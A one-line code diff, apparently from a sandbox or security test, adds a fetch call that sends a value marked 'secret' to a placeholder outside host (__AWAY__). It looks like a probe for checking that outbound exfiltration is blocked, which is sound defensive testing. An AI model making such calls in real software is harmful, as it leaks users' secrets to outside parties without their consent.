@@ -1,0 +1,1 @@
+attempt("fetch", () => fetch("__AWAY__/fetch?x=secret"));
